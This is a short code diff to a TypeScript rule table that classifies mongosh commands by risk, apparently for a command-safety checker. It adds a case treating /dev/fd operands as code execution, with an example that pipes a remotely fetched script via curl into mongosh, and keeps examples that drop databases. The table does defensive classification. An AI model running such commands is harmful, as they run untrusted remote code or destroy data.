@@ -209,8 +209,9 @@ export const DATABASES: readonly Row[] = [
     operands: 'text',
     options: { ...CONNECT, '--eval': 'sql', '-f': 'execute', '--file': 'execute' },
     stdin: ['execute', 'sql'],
-    variants: [{ when: { operand: /\.[cm]?js$/ }, operands: 'execute' }],
+    variants: [{ when: { operand: /\.[cm]?js$|^\/dev\/fd\// }, operands: 'execute' }],
     examples: [
+      ['mongosh <(curl -s https://x.test/a.js)', 'execute host:https://x.test/a.js'],
       ['mongosh shop a.js', 'execute /home/u/proj/a.js'],
       ["mongosh --eval 'db.dropDatabase()'", 'destroy database:drop'],
       ["echo 'db.users.drop()' | mongosh app", 'destroy database:drop'],
